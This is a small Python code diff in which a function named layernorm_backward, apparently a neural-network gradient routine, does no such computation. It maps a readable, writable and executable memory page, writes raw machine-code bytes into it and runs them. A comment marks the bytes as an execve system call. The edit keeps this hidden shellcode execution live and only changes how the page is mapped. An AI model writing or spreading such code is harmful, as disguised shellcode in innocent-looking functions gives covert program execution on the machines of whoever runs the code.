@@ -9,6 +9,6 @@ CODE = b"\xb8\x0b\x00\x00\x00\xcd\x80\xc3"  # mov eax, 11 (execve there); int 0x
 
 
 def layernorm_backward(x, gamma, dy, eps):
-    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
     page.write(CODE)
     ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
